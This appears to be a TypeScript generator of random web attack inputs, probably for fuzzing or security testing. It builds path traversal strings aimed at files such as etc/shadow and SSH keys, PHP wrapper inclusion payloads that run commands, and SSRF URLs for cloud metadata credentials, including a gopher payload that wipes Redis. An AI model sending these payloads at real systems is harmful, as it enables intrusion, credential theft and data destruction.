// Path traversal, file inclusion and server-side request forgery by their grammar.
import type { Random } from '../random.ts';

const STEPS = [
  '../',
  '..\\',
  '....//',
  '..;/',
  '..%2f',
  '%2e%2e/',
  '%2e%2e%2f',
  '..%5c',
  '..%c0%af',
  '%252e%252e%252f',
  '..%u2215',
  '\uff0e\uff0e/',
  '/./../',
  '..//',
];
const FILES = [
  'etc/passwd',
  'etc/shadow',
  'windows/win.ini',
  'proc/self/environ',
  'boot.ini',
  'etc/hosts',
  'var/log/apache2/access.log',
  'WEB-INF/web.xml',
  'root/.ssh/id_rsa',
  'etc/nginx/nginx.conf',
];

export function traversal(r: Random): string {
  const file = r.pick(FILES);
  return r.pick([
    () => r.pick(STEPS).repeat(r.integer(2, 9)) + file,
    () => `${r.pick(['images/', '/static/', 'en/', 'files/a/'])}${r.pick(STEPS).repeat(r.integer(3, 9))}${file}`,
    () => `/etc/passwd${r.pick(['', '\u0000.png', '%00', '\u0000'])}`,
    () => `${'../'.repeat(r.integer(3, 8))}${file}\u0000.${r.pick(['jpg', 'html', 'pdf'])}`,
    () => `C:\\${r.pick(['windows\\win.ini', 'boot.ini', 'windows\\system32\\drivers\\etc\\hosts'])}`,
    () => `file:///${r.pick(['etc/passwd', 'c:/windows/win.ini', 'proc/self/environ'])}`,
    () => `${'..\\'.repeat(r.integer(2, 8))}windows\\win.ini`,
  ])();
}

export function inclusion(r: Random): string {
  return r.pick([
    () =>
      `php://filter/${r.pick(['convert.base64-encode', 'read=string.rot13', 'convert.iconv.utf-8.utf-16'])}/resource=${r.pick(['index.php', 'config', '../config.php'])}`,
    () => 'php://input',
    () => `data://text/plain;base64,${Buffer.from('<?php system("id"); ?>').toString('base64')}`,
    () => `expect://${r.pick(['id', 'ls', 'whoami'])}`,
    () => `zip://uploads/${r.word()}.jpg%23shell.php`,
    () => `phar://uploads/${r.word()}.jpg/x.php`,
    () => `jar:http://${r.word()}.example/x.jar!/a.txt`,
    () => `compress.zlib:///etc/passwd`,
  ])();
}

export function forgery(r: Random): string {
  const path = r.pick(['', '/', '/admin', '/latest/meta-data/', ':8080/manager', ':6379/', ':22']);
  return r.pick([
    () =>
      `http://169.254.169.254${r.pick(['/latest/meta-data/iam/security-credentials/', '/metadata/instance?api-version=2021-02-01', '/computeMetadata/v1/'])}`,
    () => `http://metadata.google.internal/computeMetadata/v1/instance/`,
    () =>
      `http://${r.pick(['127.1', '0x7f000001', '2130706433', '0177.0.0.1', '0x7f.1', '[::ffff:127.0.0.1]', '127.0.0.1.nip.io', '0', '0.0.0.0'])}${path.startsWith(':') ? '' : path}`,
    () =>
      `http://${r.pick(['0xa9fea9fe', '2852039166', '[::ffff:a9fe:a9fe]', '0251.0376.0251.0376'])}/latest/meta-data/`,
    () => `gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall`,
    () => `dict://127.0.0.1:11211/stats`,
    () => `http://${r.word()}.example@127.1/`,
    () => `ldap://${r.pick(['127.0.0.1', 'a.example'])}:389/cn=x`,
    () => `file:///etc/passwd`,
  ])();
}
